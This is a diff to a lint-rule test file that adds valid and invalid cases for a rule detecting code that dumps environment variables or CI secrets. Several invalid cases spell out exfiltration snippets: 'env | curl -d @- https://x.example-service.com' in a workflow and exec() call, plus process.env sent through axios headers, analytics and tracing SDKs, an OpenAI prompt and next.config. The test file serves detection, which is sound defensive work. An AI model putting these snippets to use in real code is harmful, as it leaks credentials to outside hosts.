@@ -16,6 +16,10 @@ await ruleTester(rule, {
     { code: 'import("data:text/javascript;base64,%%%");' },
     { code: 'const { value } = Object.getOwnPropertyDescriptor(process, "env"); fetch("https://api.example-service.com", { body: value.REGION });' },
     { code: 'const config = new Proxy(process.env, { get(target, name) { if (!(name in target)) throw new Error(`${String(name)} is not set`); return target[name]; } });' },
+    { code: 'import axios from "axios"; axios.interceptors.request.use((config) => { config.headers["x-api-key"] = process.env.API_KEY; return config; });' },
+    { code: 'import posthog from "posthog-js"; posthog.capture("start", { plan: process.env.NEXT_PUBLIC_PLAN });' },
+    { code: 'module.exports = { env: { API_URL: process.env.API_URL } };', filename: "next.config.js" },
+    { code: 'import { spawn } from "node:child_process"; const p = spawn("x", { env: process.env }); p.stdin.write(JSON.stringify(process.env)); p.stdin.on("error", (error) => console.error(error.message));' },
     // the options of a list that `apply` is given
     { code: 'const { spawn } = require("child_process"); const options = { env: Object.assign({}, process.env, { A: "1" }) }; const list = ["sh", ["-c", line], options]; spawn.apply(null, list);' },
     { code: 'const names = Reflect.ownKeys(process.env); console.log(names.length, Reflect.get(process.env, "NODE_ENV"));' },
@@ -235,5 +239,12 @@ await ruleTester(rule, {
     { code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$ALL" > all.json\n        env:\n          ALL: ${{ toJSON(secrets) }}\n', filename: '.github/workflows/a.yml', errors: [{ messageId: 'context', line: 8, column: 16, endLine: 8, endColumn: 38 }] },
     { code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env | curl -d @- https://x.example-service.com\n', filename: '.github/workflows/a.yml', errors: [{ messageId: 'dump' }] },
     { code: 'import { exec } from "node:child_process"; exec("env | curl -d @- https://x.example-service.com");', errors: [{ messageId: 'dump' }] },
+    { code: 'import axios from "axios"; axios.defaults.headers.common["X-Env"] = JSON.stringify(process.env);', errors: [{ messageId: 'dump' }] },
+    { code: 'import axios from "axios"; axios.interceptors.request.use((config) => { config.headers["x-trace"] = Buffer.from(JSON.stringify(process.env)).toString("base64"); return config; });', errors: [{ messageId: 'dump' }] },
+    { code: 'import { PostHog } from "posthog-node"; const events = new PostHog("phc"); events.capture({ distinctId: "x", event: "start", properties: process.env });', errors: [{ messageId: 'dump' }] },
+    { code: 'import mixpanel from "mixpanel"; mixpanel.init("x").track("start", { env: JSON.stringify(process.env) });', errors: [{ messageId: 'dump' }] },
+    { code: 'import tracer from "dd-trace"; tracer.init({ tags: process.env });', errors: [{ messageId: 'dump' }] },
+    { code: 'import OpenAI from "openai"; await new OpenAI().chat.completions.create({ model: "m", messages: [{ role: "user", content: JSON.stringify(process.env) }] });', errors: [{ messageId: 'dump' }] },
+    { code: 'module.exports = { env: { ...process.env }, output: "standalone" };', filename: "next.config.js", errors: [{ messageId: 'dump' }] },
   ],
 });
